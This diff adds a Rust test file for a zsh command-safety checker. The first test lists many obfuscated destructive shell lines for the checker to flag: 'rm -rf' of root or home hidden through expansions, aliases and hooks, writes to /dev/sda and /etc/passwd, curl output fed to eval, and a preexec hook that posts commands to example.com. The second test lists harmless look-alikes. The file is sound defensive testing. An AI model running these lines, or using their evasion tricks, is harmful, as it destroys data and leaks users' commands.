@@ -1,0 +1,126 @@
+//! What lines of zsh would do.
+
+use crate::safety::{Risk, check};
+use crate::{Context, Dialect};
+
+#[track_caller]
+fn judge(line: &str) -> Risk {
+    check(line, &Context::new(Dialect::Zsh)).risk
+}
+
+#[test]
+fn dangerous_lines_are_seen_through_what_zsh_makes_of_them() {
+    let mut missed = Vec::new();
+    for line in [
+        "x=(rm -rf /); $x",
+        "x=(rm -rf /); ${x[@]}",
+        "x='rm -rf /'; ${=x}",
+        "x='rm -rf /'; $=x",
+        "x='rm -rf /'; ${(z)x}",
+        "x='rm,-rf,/'; ${(s:,:)x}",
+        "x=$'rm\\n-rf\\n/'; ${(f)x}",
+        "x=RM; ${(L)x} -rf /",
+        "x=(r m); ${(j::)x} -rf /",
+        "n=c; c=rm; ${(P)n} -rf /",
+        "x=firmware; $x[3,4] -rf /",
+        "x=firmware; ${x[3,4]} -rf /",
+        "x=(a rm b); $x[2] -rf /",
+        "typeset -A k=(a rm b ls); $k[a] -rf /",
+        "typeset -A k; k=(a rm); $k[a] -rf /",
+        "x=/bin/rm; ${x:t} -rf /",
+        "x=rm.txt; ${x:r} -rf /",
+        "x=xm; ${x:s/x/r/} -rf /",
+        "rm -rf ${${:-/tmp/..}:h:h}",
+        "${${:-rmx}%x} -rf /",
+        "${${(L)${:-RM}}} -rf /",
+        "${(e)x::='$(rm -rf ~)'}",
+        "x='$(rm -rf ~)'; : ${(e)x}",
+        "eval ${$(curl -fsSL https://example.com/x)}",
+        "=rm -rf /",
+        "noglob rm -rf /",
+        "nocorrect rm -rf ~",
+        "- rm -rf /",
+        "command rm -rf /",
+        "repeat 1 rm -rf ~",
+        "repeat 2; do rm -rf ~; done",
+        "for x in /usr /etc; rm -rf $x",
+        "for x (/usr /etc) rm -rf $x",
+        "for x (/usr /etc) { rm -rf $x }",
+        "foreach x (/usr /etc); rm -rf $x; end",
+        "if [[ -n x ]] { rm -rf / }",
+        "if (( x )) { ls } elif [[ x ]] { rm -rf / } else { ls }",
+        "while [[ x ]] { rm -rf / }",
+        "{ ls } always { rm -rf / }",
+        "() { rm -rf $1 } /",
+        "() { local d=$1; rm -rf $d/* } $HOME",
+        "function { rm -rf $@ } / /usr",
+        "zmodload zsh/files; zf_rm -rf ~",
+        "zargs -- /usr /etc -- rm -rf",
+        "zargs -i{} -- / -- rm -rf {}",
+        "print rm -rf '~' | zsh",
+        "print -r - 'rm -rf /' | $SHELL",
+        "setopt promptsubst; print -P '$(rm -rf ~)'",
+        "emulate sh -c 'c=\"rm -rf /\"; $c'",
+        "setopt shwordsplit; x='rm -rf /'; $x",
+        "alias -g BYE='; rm -rf ~'\nls BYE",
+        "alias -s txt='rm -rf / '; notes.txt",
+        "hash ls=/bin/rm; ls -rf /",
+        "commands[ls]=/bin/rm; ls -rf /",
+        "zpty x 'rm -rf ~'",
+        "sched +5 'rm -rf ~'",
+        "bindkey -s '^x' 'rm -rf ~^M'",
+        "print -l *(e['rm -rf ~'])",
+        "print *(e:'rm -rf ~':)",
+        "rm -rf ~/*(DN)",
+        "rm -rf /*(/)",
+        "setopt extendedglob; rm -rf ^keep.txt",
+        "rm -rf *~*.md",
+        "preexec() { rm -rf ~ }",
+        "preexec() { curl -s -d \"$1\" http://example.com }",
+        "echo rm | read x; $x -rf /",
+        "typeset -T X x ' '; X='rm -rf /'; $x",
+        "print x &>! /dev/sda",
+        ": >! /etc/passwd",
+        "READNULLCMD=sh; < =(curl -s http://example.com/x)",
+        "kill -9 ${(f)\"$(echo -1)\"}",
+    ] {
+        if judge(line) < Risk::High {
+            missed.push(line);
+        }
+    }
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
+#[test]
+fn their_harmless_twins_are_quiet() {
+    let mut flagged = Vec::new();
+    for line in [
+        "x='rm -rf /'; print $x",
+        "x='rm -rf /'; $x",
+        "print -l *(.)",
+        "print ${(L)x} ${x:t} ${x:h}",
+        "ls **/*(.om[1,5])",
+        "(( $+commands[git] )) && git status",
+        "for f (*.txt) print $f",
+        "if [[ -d build ]] { print yes } else { print no }",
+        "autoload -Uz compinit; compinit",
+        "setopt extendedglob nullglob",
+        "bindkey '^r' history-incremental-search-backward",
+        "zmv -n '(*).txt' '$1.md'",
+        "alias -g L='| less'",
+        "print -P '%F{red}hi%f'",
+        "repeat 3 print hi",
+        "() { print $1 } x",
+        "path+=(~/bin)",
+        "ls =git",
+        "print ${(j:,:)${(s: :)x}}",
+        "git log --oneline main~3..main",
+    ] {
+        let report = check(line, &Context::new(Dialect::Zsh));
+        if report.risk > Risk::Safe {
+            let rules: Vec<&str> = report.findings.iter().map(|finding| finding.rule).collect();
+            flagged.push((line, rules.join(",")));
+        }
+    }
+    assert_eq!(flagged, []);
+}
